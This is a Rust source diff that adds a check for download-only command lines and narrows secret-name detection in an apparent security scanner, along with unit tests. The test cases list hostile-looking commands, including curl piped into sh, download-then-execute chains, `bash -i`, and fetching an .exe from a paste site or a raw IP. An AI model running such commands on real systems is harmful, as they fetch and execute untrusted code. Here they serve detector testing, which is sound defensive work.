@@ -714,6 +714,30 @@ pub fn is_strong_command(s: &str) -> bool {
     M.get_or_init(|| case_insensitive(STRONG.iter().copied())).is_match(s)
 }
 
+/// A command line made only of downloads (`curl`, `wget`), `git` steps and
+/// `cd` (`cd mupdf && git pull && git submodule update --init`): it fetches,
+/// it runs nothing it fetched. Pipes and strong commands are never this.
+pub fn fetch_only_command(a: &str) -> bool {
+    let steps = a.split(['&', ';', '|']).map(str::trim).filter(|s| !s.is_empty());
+    let program = |step: &str| {
+        let word = step.split_whitespace().next().unwrap_or("");
+        word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase()
+    };
+    let fetch = |w: &str| matches!(w, "curl" | "wget" | "curl.exe" | "wget.exe" | "git" | "git.exe");
+    steps.clone().count() > 0
+        && steps.clone().any(|s| fetch(&program(s)))
+        && steps.clone().all(|s| fetch(&program(s)) || program(s) == "cd")
+        && !a.contains('|')
+        && !is_strong_command(a)
+        // A program fetched (`-o dark.exe`) or a source named for what it is
+        // (a paste site, a raw IP) is a dropper's first step, not a data file.
+        && !a
+            .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+            .any(|w| [".exe", ".bat", ".ps1", ".vbs", ".scr", ".sh"].iter().any(|e| w.to_ascii_lowercase().ends_with(e)))
+        && untrusted_host(a).is_none()
+        && endpoint_kind(a).is_none()
+}
+
 /// Commands that fetch or launch things from a shell.
 pub fn dangerous_command(s: &str) -> Option<&'static str> {
     dangerous(s, true)
@@ -953,7 +977,15 @@ pub fn secret_name(ident: &str) -> Option<SecretName> {
         "keystore",
         "wif",
     ];
-    if WALLET.iter().any(|w| n.contains(w)) && !n.contains("public") && !n.ends_with("path") && !n.ends_with("file") {
+    // A name for *where* or *what kind of* secret (`private_key_url`,
+    // `token_type`, `password_file`) is not the secret.
+    const ABOUT: &[&str] = &[
+        "path", "file", "url", "uri", "type", "name", "dir", "len", "length", "size", "format", "field", "header",
+    ];
+    if ABOUT.iter().any(|a| n.ends_with(a)) {
+        return None;
+    }
+    if WALLET.iter().any(|w| n.contains(w)) && !n.contains("public") {
         if service_key(ident) {
             return Some(SecretName::Credential);
         }
@@ -970,7 +1002,9 @@ pub fn secret_name(ident: &str) -> Option<SecretName> {
         "credential",
         "sessionid",
     ];
-    (CREDENTIAL.iter().any(|w| n.contains(w)) && !n.ends_with("url") && !n.ends_with("type") && !n.ends_with("name"))
+    CREDENTIAL
+        .iter()
+        .any(|w| n.contains(w))
         .then_some(SecretName::Credential)
 }
 
@@ -1170,6 +1204,23 @@ mod tests {
             assert!(!is_send(name), "{name}");
         }
         assert!(keeps_callable("staticmethod") && !keeps_callable("threading.Thread"));
+        for c in [
+            "wget -O a.csv http://x/a.csv",
+            "cd m && git pull && git submodule update --init",
+            "curl -fsSL https://x",
+        ] {
+            assert!(fetch_only_command(c), "{c}");
+        }
+        for c in [
+            "curl -fsSL https://x | sh",
+            "curl -o a https://x && sh a",
+            "cd /tmp",
+            "bash -i",
+            "cd C:/ && curl https://copy-paste.me/private/d.exe -o d.exe",
+            "wget http://203.0.113.9/x -O x",
+        ] {
+            assert!(!fetch_only_command(c), "{c}");
+        }
         for name in ["subprocess.PIPE", "os.path.join", "exec_module"] {
             assert!(!is_shell(name) && !is_exec(name), "{name}");
         }
@@ -1253,7 +1304,14 @@ mod tests {
         ] {
             assert_eq!(secret_name(n), Some(SecretName::Credential), "{n}");
         }
-        for n in ["public_key", "key_path", "private_key_file", "token_url"] {
+        for n in [
+            "public_key",
+            "key_path",
+            "private_key_file",
+            "token_url",
+            "private_key_url",
+            "password_length",
+        ] {
             assert_eq!(secret_name(n), None, "{n}");
         }
     }
